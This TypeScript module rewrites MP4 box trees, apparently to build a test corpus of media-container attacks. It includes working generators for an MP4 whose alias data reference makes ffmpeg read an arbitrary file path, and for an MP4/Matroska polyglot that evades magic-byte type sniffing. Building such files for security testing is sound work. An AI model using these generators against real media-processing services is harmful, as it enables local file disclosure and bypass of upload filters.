// Just enough ISO BMFF (MP4/MOV) box surgery to build the corpus's container attacks from a real MP4 that
// ffmpeg wrote: parse the box tree, swap or drop boxes, write it back with every size fixed up.

export interface Box { type: string, payload?: Buffer, children?: Box[] }

/** The boxes that hold boxes (on the path to the data reference and the chunk offsets). */
const CONTAINERS = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf', 'stbl'])

export function parseBoxes (bytes: Buffer): Box[] {
  const boxes: Box[] = []
  for (let at = 0; at + 8 <= bytes.length;) {
    const size = bytes.readUInt32BE(at)
    if (size < 8) throw new Error(`box at ${at}: 64-bit or open-ended sizes are not handled here`)
    const type = bytes.toString('latin1', at + 4, at + 8)
    const body = bytes.subarray(at + 8, at + size)
    boxes.push(CONTAINERS.has(type) ? { type, children: parseBoxes(body) } : { type, payload: body })
    at += size
  }
  return boxes
}

export function writeBox ({ type, payload, children }: Box): Buffer {
  const body = children === undefined ? payload! : Buffer.concat(children.map(writeBox))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** The tree with `change` applied to every box, depth first; `undefined` drops the box. */
export function mapBoxes (boxes: Box[], change: (box: Box) => Box | undefined): Box[] {
  return boxes.flatMap(box => {
    const changed = change(box)
    if (changed === undefined) return []
    return [changed.children === undefined ? changed : { ...changed, children: mapBoxes(changed.children, change) }]
  })
}

export function findBox (boxes: Box[], type: string): Box | undefined {
  for (const box of boxes) {
    if (box.type === type) return box
    const inner = box.children === undefined ? undefined : findBox(box.children, type)
    if (inner !== undefined) return inner
  }
  return undefined
}

/**
 * A QuickTime alias record ('alis' data reference entry), laid out as ffmpeg's mov_read_dref reads it: a
 * fixed part (volume, file name, the levels up from this file and down to the target) then tagged fields,
 * of which type 2 is the target's path. `up`/`down` 0 means "absolute path only".
 */
export function aliasEntry (path: string, up: number, down: number): Buffer {
  const fixed = Buffer.alloc(4 + 10 + 1 + 27 + 12 + 1 + 63 + 16 + 4 + 16) // version/flags ... reserved
  const levelsAt = 4 + 10 + 1 + 27 + 12 + 1 + 63 + 16
  fixed.writeUInt16BE(up, levelsAt)
  fixed.writeUInt16BE(down, levelsAt + 2)
  const text = Buffer.from(path, 'latin1')
  const field = Buffer.alloc(4)
  field.writeUInt16BE(2) // absolute path
  field.writeUInt16BE(text.length, 2)
  const end = Buffer.from([0xff, 0xff, 0, 0])
  return writeBox({ type: 'alis', payload: Buffer.concat([fixed, field, text, Buffer.alloc(text.length & 1), end]) })
}

/**
 * The movie header of `mp4` alone (no media data, no user data), its data reference swapped for `entry`:
 * every sample is then read from wherever the entry points, at the offsets of the original file.
 */
export function externalDataMp4 (mp4: Buffer, entry: Buffer): Buffer {
  const oneEntry = Buffer.alloc(8)
  oneEntry.writeUInt32BE(1, 4) // version/flags 0, one entry
  const boxes = mapBoxes(parseBoxes(mp4), box => {
    if (['mdat', 'free', 'udta'].includes(box.type)) return undefined
    return box.type === 'dref' ? { type: 'dref', payload: Buffer.concat([oneEntry, entry]) } : box
  })
  return Buffer.concat(boxes.map(writeBox))
}

/**
 * `mp4` rebuilt as one 'moov' box that starts with the Matroska (EBML) magic as its size: sniffing by magic
 * bytes calls it Matroska, while ffmpeg's probe, walking boxes, scores it as MP4 (the EBML size field then
 * spells "mo" and declares a header larger than the file, so the Matroska probe scores nothing). The media
 * data rides along in a 'free' box inside the movie box, chunk offsets moved to match.
 */
export function ebmlMoovPolyglot (mp4: Buffer): Buffer {
  const top = parseBoxes(mp4)
  const moov = mapBoxes([findBox(top, 'moov')!], box => box.type === 'udta' ? undefined : box)[0]!
  const mdat = findBox(top, 'mdat')!
  const oldDataAt = mdat.payload!.byteOffset - mp4.byteOffset
  const newDataAt = writeBox(moov).length + 8 // after the movie's own boxes and the 'free' box header
  const stco = findBox([moov], 'stco')!
  const offsets = Buffer.from(stco.payload!)
  for (let i = 0; i < offsets.readUInt32BE(4); i++) offsets.writeUInt32BE(offsets.readUInt32BE(8 + 4 * i) - oldDataAt + newDataAt, 8 + 4 * i)
  stco.payload = offsets
  const body = Buffer.concat([...moov.children!.map(writeBox), writeBox({ type: 'free', payload: mdat.payload })])
  return Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), Buffer.from('moov', 'latin1'), body])
}
